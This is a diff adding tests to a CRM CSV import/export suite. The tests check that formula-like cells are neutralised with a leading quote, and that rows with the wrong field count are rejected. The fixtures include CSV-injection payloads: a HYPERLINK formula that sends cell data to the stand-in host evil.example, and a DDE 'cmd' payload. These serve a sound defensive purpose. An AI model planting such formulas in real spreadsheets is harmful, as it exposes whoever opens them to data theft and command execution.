@@ -79,6 +79,39 @@ describe('export round trip', () => {
   });
 });
 
+describe('formula injection (CSV injection)', () => {
+  it("export prefixes formula-like cells with ' and import reads them back: export → import → export is byte-identical", async () => {
+    const summaries = ['=HYPERLINK("https://evil.example/?d="&A1,"详情")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', "'=already quoted", "''+twice", '\t=tab first'];
+    const rows = summaries.map((_, i) => `I9${i},A100,u_zhang,2026-11-0${i + 1}T10:00:00+08:00,visit,,placeholder,,`);
+    const dir = tmp();
+    writeCsv(dir, 'interactions.csv', ['id,account_id,user_id,occurred_at,type,contact_ids,summary,next_step,next_step_due', ...rows]);
+    const src = await sampleDb();
+    const dst = await emptyDb();
+    try {
+      await importDir(src, dir, TEST_TZ);
+      // Stored as a chat note would store them (an import reads a leading ' as neutralised).
+      for (const [i, summary] of summaries.entries()) await src.query('UPDATE interactions SET summary = $1 WHERE id = $2', [summary, `I9${i}`]);
+      const a = tmp();
+      await exportDir(src, a, TEST_TZ);
+      const exported = readFileSync(join(a, 'interactions.csv'), 'utf8');
+      expect(exported).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""详情"")"`);
+      expect(exported).toContain("I92,A100,u_zhang,2026-11-03T10:00:00+08:00,visit,,'-2+3,,");
+      expect(exported).toContain(",'@SUM(A1:A9),");
+      expect(exported).toContain(",''=already quoted,");
+      expect(exported).toContain(",'\t=tab first,");
+      await importDir(dst, a, TEST_TZ);
+      const stored = await dst.query<{ summary: string }>("SELECT summary FROM interactions WHERE id LIKE 'I9_' ORDER BY id");
+      expect(stored.rows.map((r) => r.summary)).toEqual(summaries);
+      const b = tmp();
+      await exportDir(dst, b, TEST_TZ);
+      expect(readExport(b)).toEqual(readExport(a));
+    } finally {
+      await src.close();
+      await dst.close();
+    }
+  });
+});
+
 describe('import errors', () => {
   let db: Db;
   beforeAll(async () => {
@@ -103,6 +136,19 @@ describe('import errors', () => {
     const after = tmp();
     await exportDir(db, after, TEST_TZ);
     expect(readExport(after)).toEqual(readExport(before));
+  });
+
+  it('refuses rows with the wrong number of fields (a stray comma, a lost field) and writes nothing', async () => {
+    const dir = tmp();
+    const before = await db.query<{ n: number }>('SELECT count(*)::int AS n FROM orders');
+    writeCsv(dir, 'orders.csv', ['id,account_id,order_date,amount,product', 'O81,A100,2026-01-01,5,pump', 'O82,A100,2026-01-01,9,000,pump', 'O83,A100,2026-01-01,5', '"O84","A100","2026-01-01","5","multi\nline",x']);
+    expect(await problemsOf(db, dir)).toEqual([
+      'orders.csv:3: expected 5 fields, found 6',
+      'orders.csv:4: expected 5 fields, found 4',
+      'orders.csv:6: expected 5 fields, found 6',
+    ]);
+    const after = await db.query<{ n: number }>('SELECT count(*)::int AS n FROM orders');
+    expect(after.rows[0].n).toBe(before.rows[0].n);
   });
 
   it('reports unknown and missing columns', async () => {
